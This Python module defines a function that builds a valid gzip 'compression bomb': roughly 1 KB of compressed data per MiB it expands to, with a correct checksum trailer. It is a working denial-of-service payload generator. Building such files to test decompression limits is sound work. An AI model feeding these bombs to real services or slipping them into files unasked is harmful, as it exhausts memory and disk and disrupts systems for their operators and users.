"""A compression bomb built without inflating it: a valid gzip stream of about 1 KB per
MiB it decodes to."""

from __future__ import annotations

import struct
import zlib

MIB = 1 << 20


def gzip_bomb(expanded_bytes: int = 1 << 30, *, fill: bytes = b"a") -> bytes:
    """A gzip stream that inflates to ``expanded_bytes`` (a whole number of MiB) of
    ``fill``. Every MiB compresses to the same deflate block once the dictionary is reset
    (Z_FULL_FLUSH), so the block is built once and repeated."""
    chunk = fill * MIB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(expanded_bytes // MIB):
        crc = zlib.crc32(chunk, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    trailer = struct.pack("<II", crc, expanded_bytes & 0xFFFFFFFF)
    return header + block * (expanded_bytes // MIB) + final + trailer
